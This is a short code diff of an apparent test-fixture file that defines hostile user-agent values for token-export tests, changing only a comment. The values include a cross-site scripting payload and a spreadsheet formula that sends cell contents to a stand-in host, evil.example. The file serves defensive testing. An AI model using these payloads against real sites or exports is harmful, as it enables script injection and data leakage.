@@ -33,8 +33,8 @@ export const HOSTILE_USER_AGENT_TOKEN_ID = 'tok_x5sb3jv7gq2k';
 export const HOSTILE_USER_AGENT = '<img src=x onerror=alert(1)>';
 
 /**
- * The token whose user_agent is a spreadsheet formula with Chinese text in it (position 3 of the default list, an
- * active refresh token): an export must neutralise the formula and keep the Chinese intact.
+ * The token whose user_agent is a spreadsheet formula with Chinese text in it (an active refresh token near the top of
+ * the default list): an export must neutralise the formula and keep the Chinese intact.
  */
 export const FORMULA_USER_AGENT_TOKEN_ID = 'tok_f6rmulacqzuh';
 export const FORMULA_USER_AGENT = '=HYPERLINK("https://evil.example/?q="&A1,"点击查看详情")';
